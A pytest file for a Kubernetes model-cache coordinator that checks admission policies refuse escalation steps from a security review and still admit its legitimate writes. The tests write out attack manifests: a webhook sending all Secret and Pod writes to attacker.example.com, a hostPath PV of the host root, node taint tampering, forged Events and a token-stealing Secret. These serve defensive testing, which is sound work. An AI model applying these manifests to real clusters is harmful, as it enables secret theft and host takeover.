"""The coordinator's grants cut to need (security review M1, M2; docs/operations.md, "Threat
model"): each of the review's steps, run with the coordinator's own token, is refused by the API
server (deploy/policies/coordinator.yaml), while RBAC still answers `yes` (the verbs are needed)
and what coordinator/ really writes is admitted.
"""

from __future__ import annotations

import base64
import copy
import json
from typing import Any

import pytest
from kubernetes.client.exceptions import ApiException

from coordinator.webhookcerts import MUTATING, VALIDATING
from modelcache.kube.client import (
    EVENTS,
    LEASES,
    LOCAL_MODEL_CACHES,
    NAMESPACES,
    NODES,
    PERSISTENT_VOLUME_CLAIMS,
    PERSISTENT_VOLUMES,
    PODS,
    SECRETS,
    Kube,
)
from tests.coordinator_util import make_cache, make_group
from tests.deploy_util import DEPLOY, NAMESPACE
from tests.fixtures.cluster import Cluster

pytestmark = pytest.mark.timeout(300)

COORDINATOR = "system:serviceaccount:modelcache-system:modelcache-coordinator"
KEY = "0123456789abcdef"
OURS = {"app.kubernetes.io/managed-by": "modelcache-coordinator", "modelcache.io/storage-key": KEY}


def can_i(cluster: Cluster, *args: str) -> bool:
    return cluster.kubectl("auth", "can-i", *args, "--as", COORDINATOR, check=False).stdout.strip() == "yes"


def refused(call: Any, policy: str) -> str:
    """The message of the API server's refusal by ``policy`` (an AssertionError if it was admitted)."""
    with pytest.raises(ApiException) as info:
        call()
    body = info.value.body if isinstance(info.value.body, str) else info.value.body.decode()
    assert info.value.status in (403, 422) and f"ValidatingAdmissionPolicy '{policy}'" in body, body
    return str(json.loads(body)["message"])


@pytest.fixture
def coordinator(cluster: Cluster) -> Kube:
    """The coordinator's identity: deploy/'s RBAC and policies, its ServiceAccount's token."""
    return cluster.kube(cluster.coordinator_kubeconfig)


def test_webhook_configurations_change_only_in_their_ca_and_uninstall_path(cluster: Cluster,
                                                                           coordinator: Kube) -> None:
    cluster.kubectl("apply", "-f", str(DEPLOY / "webhooks"))
    assert can_i(cluster, "update", "validatingwebhookconfigurations/modelcache-cache-validator")
    # The review's 04-coordinator-escalation.sh (a): a webhook added that gets every Secret and Pod write.
    config = coordinator.get(VALIDATING, "modelcache-cache-validator")
    steal = copy.deepcopy(config)
    hook = copy.deepcopy(steal["webhooks"][-1])
    hook.update({"name": "steal.secrets.example.com", "clientConfig": {"url": "https://attacker.example.com/collect"},
                 "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                            "resources": ["secrets", "pods"], "scope": "*"}], "failurePolicy": "Ignore",
                 "sideEffects": "None", "timeoutSeconds": 1})
    hook.pop("objectSelector", None)
    hook.pop("namespaceSelector", None)
    steal["webhooks"].append(hook)
    message = refused(lambda: coordinator.replace(VALIDATING, steal), "modelcache-coordinator-webhooks")
    assert "only the caBundle of its webhooks (and the uninstall webhook's secret path) may change" in message
    # (a2) the pod mutator widened to every pod, failing closed.
    mutator = coordinator.get(MUTATING, "modelcache-pod-mutator")
    wide = copy.deepcopy(mutator)
    wide["webhooks"][0].pop("objectSelector", None)
    wide["webhooks"][0]["failurePolicy"] = "Fail"
    wide["webhooks"][0]["rules"][0]["operations"] = ["CREATE", "UPDATE"]
    refused(lambda: coordinator.replace(MUTATING, wide), "modelcache-coordinator-webhooks")
    # Redirected, or its uninstall path pointed elsewhere: refused too.
    moved = copy.deepcopy(config)
    moved["webhooks"][0]["clientConfig"]["service"]["name"] = "elsewhere"
    refused(lambda: coordinator.replace(VALIDATING, moved), "modelcache-coordinator-webhooks")
    moved = copy.deepcopy(config)
    uninstall = next(h for h in moved["webhooks"] if h["name"] == "uninstall.modelcache.serving.kserve.io")
    uninstall["clientConfig"]["service"]["path"] = "/mutate-pods"
    refused(lambda: coordinator.replace(VALIDATING, moved), "modelcache-coordinator-webhooks")

    # What the coordinator writes: a CA on every webhook, a secret uninstall path.
    ca = base64.b64encode(b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n").decode()
    for res, obj in ((VALIDATING, config), (MUTATING, mutator)):
        for h in obj["webhooks"]:
            h["clientConfig"]["caBundle"] = ca
            if h["name"] == "uninstall.modelcache.serving.kserve.io":
                h["clientConfig"]["service"]["path"] = "/uninstall/" + "ab" * 32
        coordinator.replace(res, obj)


def test_node_patches_change_only_the_coordinators_labels(cluster: Cluster, coordinator: Kube) -> None:
    cluster.register_node("node-1")
    cluster.kubectl("taint", "node", "node-1", "dedicated=gpu:NoSchedule")
    assert can_i(cluster, "patch", "nodes")
    # The review's (b): taints dropped, unschedulable, podCIDR, role labels.
    for patch in ({"spec": {"taints": None}}, {"spec": {"unschedulable": True}}, {"spec": {"podCIDR": "10.99.0.0/24"}},
                  {"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}},
                  {"metadata": {"labels": {"secure-zone": "pci"}}},
                  {"metadata": {"labels": {"kubernetes.io/hostname": None}}},
                  {"metadata": {"annotations": {"x": "y"}}}):
        message = refused(lambda p=patch: coordinator.patch(NODES, "node-1", p), "modelcache-coordinator-nodes")
        assert "only its downloaded.modelcache.io/ labels may change" in message
    node = cluster.kube().get(NODES, "node-1")
    assert node["spec"]["taints"][0]["key"] == "dedicated" and not node["spec"].get("unschedulable")
    # What coordinator/nodelabels.py writes.
    coordinator.patch(NODES, "node-1", {"metadata": {"labels": {f"downloaded.modelcache.io/{KEY}": "true"}}})
    coordinator.patch(NODES, "node-1", {"metadata": {"labels": {f"downloaded.modelcache.io/{KEY}": None}}})


def test_volumes_are_only_the_coordinators_own(cluster: Cluster, coordinator: Kube) -> None:
    admin = cluster.kube()
    admin.create(NAMESPACES, {"metadata": {"name": "tenant-x"}})
    assert can_i(cluster, "create", "persistentvolumes") and can_i(cluster, "delete", "persistentvolumeclaims", "-A")
    # The review's (c): a hostPath PV of the host's / pre-bound to a claim it makes in any namespace.
    pv = {"metadata": {"name": "secrev-hostroot"}, "spec": {
        "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"], "hostPath": {"path": "/"},
        "storageClassName": "", "claimRef": {"namespace": "tenant-x", "name": "data"}}}
    message = refused(lambda: coordinator.create(PERSISTENT_VOLUMES, pv), "modelcache-coordinator-volumes")
    assert "only its own serving volumes" in message
    pvc = {"metadata": {"name": "data", "namespace": "tenant-x"}, "spec": {
        "accessModes": ["ReadWriteMany"], "storageClassName": "", "volumeName": "secrev-hostroot",
        "resources": {"requests": {"storage": "1Gi"}}}}
    refused(lambda: coordinator.create(PERSISTENT_VOLUME_CLAIMS, pvc, "tenant-x"), "modelcache-coordinator-volumes")
    # Labelled as ours, it is admitted: and every pod mounting its claim is then held to read-only
    # models/<key> (deploy/policies/serving-volumes.yaml), so the host's / is not what it gives.
    pv["metadata"]["labels"] = dict(OURS)
    coordinator.create(PERSISTENT_VOLUMES, pv)
    pvc["metadata"]["labels"] = dict(OURS)
    coordinator.create(PERSISTENT_VOLUME_CLAIMS, pvc, "tenant-x")
    pod = {"metadata": {"name": "p"}, "spec": {
        "containers": [{"name": "c", "image": "busybox", "volumeMounts": [{"name": "v", "mountPath": "/host"}]}],
        "volumes": [{"name": "v", "persistentVolumeClaim": {"claimName": "data"}}]}}
    with pytest.raises(ApiException) as info:
        admin.create(PODS, pod, "tenant-x")
    assert "modelcache-serving-volumes" in str(info.value.body)
    # (d): a PVC it did not make, in kube-system.
    admin.create(PERSISTENT_VOLUME_CLAIMS, {"metadata": {"name": "etcd-backup"}, "spec": {
        "accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}}, "kube-system")
    refused(lambda: coordinator.delete(PERSISTENT_VOLUME_CLAIMS, "etcd-backup", "kube-system"),
            "modelcache-coordinator-volumes")
    assert admin.get_or_none(PERSISTENT_VOLUME_CLAIMS, "etcd-backup", "kube-system") is not None
    # Its own go.
    coordinator.delete(PERSISTENT_VOLUME_CLAIMS, "data", "tenant-x")
    coordinator.delete(PERSISTENT_VOLUMES, "secrev-hostroot")


def test_events_and_what_rbac_cannot_name(cluster: Cluster, coordinator: Kube) -> None:
    admin = cluster.kube()
    assert can_i(cluster, "create", "events", "-n", "kube-system")
    # The review's (e): an Event about kube-apiserver, in kube-system.
    forged = {"metadata": {"name": "secrev-forged"}, "type": "Warning", "reason": "Forged", "message": "a forged event",
              "involvedObject": {"kind": "Pod", "name": "kube-apiserver", "namespace": "kube-system"}}
    message = refused(lambda: coordinator.create(EVENTS, forged, "kube-system"), "modelcache-coordinator-events")
    assert "only about its caches" in message
    # About a cache, where caches' Events go: admitted.
    make_group(admin, "workers")
    cache = make_cache(admin, "llm", "s3://m/llm", ["workers"])
    about = {"apiVersion": cache["apiVersion"], "kind": "LocalModelCache", "name": "llm",
             "uid": cache["metadata"]["uid"]}
    coordinator.create(EVENTS, {"metadata": {"name": "llm.1"}, "type": "Normal", "reason": "CopyAvailable",
                                "message": "m", "involvedObject": about}, "default")
    node = {"apiVersion": "v1", "kind": "Node", "name": "node-1"}
    refused(lambda: coordinator.create(EVENTS, {"metadata": {"name": "n.2"}, "type": "Warning", "reason": "Forged",
                                                "message": "m", "involvedObject": node}, "default"),
            "modelcache-coordinator-events")
    # A cache's spec is the user's: the coordinator's update may change its finalizers, not its spec.
    changed = copy.deepcopy(admin.get(LOCAL_MODEL_CACHES, "llm"))
    changed["spec"]["serviceAccountName"] = "someone-elses"
    refused(lambda: coordinator.replace(LOCAL_MODEL_CACHES, changed), "modelcache-coordinator-caches")
    fin = copy.deepcopy(admin.get(LOCAL_MODEL_CACHES, "llm"))
    fin["metadata"]["finalizers"] = ["localmodel.kserve.io/finalizer"]
    coordinator.replace(LOCAL_MODEL_CACHES, fin)
    # create secrets / leases cannot be limited to a name by RBAC: the policy does it.
    assert can_i(cluster, "create", "secrets", "-n", NAMESPACE)
    token_secret = {"metadata": {"name": "steal", "annotations": {"kubernetes.io/service-account.name": "default"}},
                    "type": "kubernetes.io/service-account-token"}
    refused(lambda: coordinator.create(SECRETS, token_secret, NAMESPACE), "modelcache-coordinator-secrets")
    refused(lambda: coordinator.create(SECRETS, {"metadata": {"name": "other"}, "type": "Opaque"}, NAMESPACE),
            "modelcache-coordinator-secrets")
    refused(lambda: coordinator.create(LEASES, {"metadata": {"name": "other"}, "spec": {}}, NAMESPACE),
            "modelcache-coordinator-leases")
    coordinator.create(SECRETS, {"metadata": {"name": "modelcache-webhook-tls"}, "type": "Opaque"}, NAMESPACE)
    coordinator.create(LEASES, {"metadata": {"name": "modelcache-coordinator"}, "spec": {}}, NAMESPACE)
